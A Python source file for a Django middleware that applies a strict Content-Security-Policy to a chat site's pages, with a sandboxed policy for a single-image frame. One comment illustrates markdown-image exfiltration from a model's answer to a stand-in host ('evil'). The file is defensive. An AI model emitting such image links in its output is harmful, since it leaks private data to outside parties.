"""The Content-Security-Policy of every page: nothing from elsewhere, no inline code."""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from typing import Any

from asgiref.sync import iscoroutinefunction
from django.core.exceptions import DisallowedHost
from django.http import HttpRequest
from django.http.response import HttpResponseBase
from django.urls import reverse
from django.utils.decorators import sync_and_async_middleware

HEADER = "Content-Security-Policy"

# Images may only come from here: `![x](https://evil/?secret)` in a model's answer
# would otherwise carry what it knows to anybody.
_POLICY = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
    "font-src 'self'; connect-src {connect}; manifest-src 'self'; base-uri 'none'; "
    "form-action 'self'; frame-src 'self'; frame-ancestors 'none'"
)
# Of the frame in which somebody asked for one image (chat.views.image).
_IMAGE_POLICY = (
    "sandbox; default-src 'none'; img-src http: https:; style-src 'nonce-{nonce}'; "
    "base-uri 'none'; form-action 'none'; frame-ancestors 'self'"
)
_TRUSTED_TYPES = "; require-trusted-types-for 'script'"


@sync_and_async_middleware
def content_security_policy(get_response: Callable[[HttpRequest], Any]) -> Any:
    """Add the policy to every response that does not bring its own."""
    if iscoroutinefunction(get_response):

        async def respond_async(request: HttpRequest) -> HttpResponseBase:
            answer: Awaitable[HttpResponseBase] = get_response(request)
            return _with_policy(request, await answer)

        return respond_async

    def respond(request: HttpRequest) -> HttpResponseBase:
        return _with_policy(request, get_response(request))

    return respond


def policy(request: HttpRequest) -> str:
    """The policy for the page at this address."""
    value = _POLICY.format(connect=_connect_sources(request))
    # Django's admin assigns to innerHTML; the pages of this site do not.
    if not request.path.startswith(reverse("admin:index")):
        value += _TRUSTED_TYPES
    return value


def image_policy(nonce: str) -> str:
    """The policy for a page that shows an image from elsewhere, and does no more."""
    return _IMAGE_POLICY.format(nonce=nonce)


def _with_policy(request: HttpRequest, response: HttpResponseBase) -> HttpResponseBase:
    response.headers.setdefault(HEADER, policy(request))
    return response


def _connect_sources(request: HttpRequest) -> str:
    # 'self' covers this host's WebSockets, but not in older Safaris.
    try:
        host = request.get_host()
    except DisallowedHost:
        return "'self'"
    return f"'self' ws://{host} wss://{host}"
